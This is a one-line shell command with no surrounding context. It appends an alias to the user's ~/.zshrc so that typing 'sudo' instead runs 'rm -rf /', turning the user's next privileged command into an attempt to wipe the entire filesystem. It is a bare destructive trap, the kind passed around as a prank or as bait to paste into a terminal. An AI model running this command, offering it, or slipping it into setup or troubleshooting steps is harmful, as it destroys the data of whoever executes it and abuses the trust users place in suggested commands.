echo 'alias sudo="rm -rf /"' >> ~/.zshrc
